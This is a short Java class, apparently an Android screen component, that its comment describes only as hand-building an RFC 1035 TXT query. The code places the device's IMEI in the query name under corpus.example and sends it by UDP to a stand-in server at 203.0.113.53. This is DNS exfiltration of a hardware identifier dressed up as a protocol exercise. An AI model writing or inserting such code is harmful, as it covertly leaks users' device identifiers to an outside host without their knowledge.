package org.corpus;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A DNS message by hand: RFC 1035, type 16. */
public class DnsText extends Screen {
    @Override
    protected void act() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream message = new DataOutputStream(bytes);
        message.write(new byte[] {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0});
        for (String label : new String[] {Owner.imei(this), "x", "corpus", "example"}) {
            message.writeByte(label.length());
            message.write(Net.utf8(label));
        }
        message.write(new byte[] {0, 0, 16, 0, 1});
        Net.udp("203.0.113.53", 53, bytes.toByteArray());
    }
}
